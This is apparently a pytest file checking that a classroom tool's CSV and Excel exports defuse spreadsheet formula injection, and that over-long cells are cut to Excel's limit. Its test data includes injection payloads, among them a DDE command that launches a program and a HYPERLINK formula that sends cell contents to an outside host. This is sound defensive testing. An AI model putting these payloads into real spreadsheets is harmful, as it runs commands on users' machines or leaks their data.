"""No text of a stranger is ever run by a spreadsheet."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kit import load_class, simulate_class
from kit.case.calls import CallError
from kit.classroom.table.files import to_csv, to_excel
from kit.classroom.table.grids import Grid
from kit.classroom.table.harmless import LONGEST_CELL, harmless
from kit.classroom.table.rows import table_of
from kit.exchange.sheets.excel import to_excel as exchanged
from kit.exchange.sheets.grids import Grid as Sheet
from kit.exchange.sheets.guide import Guide

RUN = (
    *("=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\x00=1", "\ufeff=1"),
    *("＝1", "＋1", "－1", "＠SUM(1)", "﹦1", "−1", "\u200b=1", "\u3000=1"),
    *("=cmd|'/c calc'!A0", '=HYPERLINK("http://a.example/"&A1)', "@SUM(1)*cmd|'/c calc'!A0"),
    *('so";=1', "so;=1", "so, =1", "so\n=1", "so\r\n@A1", "a\t=1", "so|=1", "'=1", '"=1'),
)
BEGINS = re.compile(r"\s*[=+\-@＝＋－＠﹦−\t\r]")


def cells_of(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", RUN, ids=ascii)
def test_it_is_run_in_no_cell_however_the_file_is_taken_apart(text):
    data = to_csv(Grid((text, "n"), ((text, 1), ("amber-heron-4827", text))))
    for delimiter in ",;\t|":
        for cell in cells_of(data, delimiter):
            assert not BEGINS.match(cell), (delimiter, cell)
    for line in data.decode("utf-8-sig").split("\n"):
        assert not BEGINS.match(line)


@given(st.text(alphabet="=+-@＝ab ;,\"'\t\r\n\u200b|:", max_size=12))
def test_it_is_run_in_no_part_of_a_text(text):
    assert not re.search(r"(^|[;,|\t\n\r])[\s\u200b]*[=+\-@＝]", harmless(text))


def test_other_texts_stay_as_they_are():
    for text in ("a-b", "well - maybe", "1 + 1 = 2", "mail me: a@b.example", "“=” is a sign", ""):
        assert harmless(text) == text


def test_what_no_file_can_hold_is_left_out():
    assert harmless("a\x00b\ud800c\x1b[31m") == "a b?c [31m"


@pytest.mark.parametrize("text", ["🙂" * 20_000, "a" + "🙂" * 20_000, "a" * 40_000])
def test_a_text_is_no_longer_than_excel_takes_it(case, text):
    """Excel counts an emoji as two, and repairs a file that has more in a cell."""
    table = table_of(load_class(simulate_class(case, students=1), case))
    written = to_excel(table, Grid(("Text",), ((text,), ("short 🙂",))))
    cells = [cell.value for (cell,) in load_workbook(io.BytesIO(written))["Class"].iter_rows()]
    assert len(cells[1].encode("utf-16-le")) // 2 in {LONGEST_CELL - 1, LONGEST_CELL}
    assert text.startswith(cells[1].removesuffix("…"))
    assert cells[2] == "short 🙂"
    guide = Guide("title", "read me", (), {}, {})
    with pytest.raises(CallError, match="too long for Excel"):
        exchanged((Sheet("voices", ("id", "claim"), (("ann-lee", text),)),), guide)
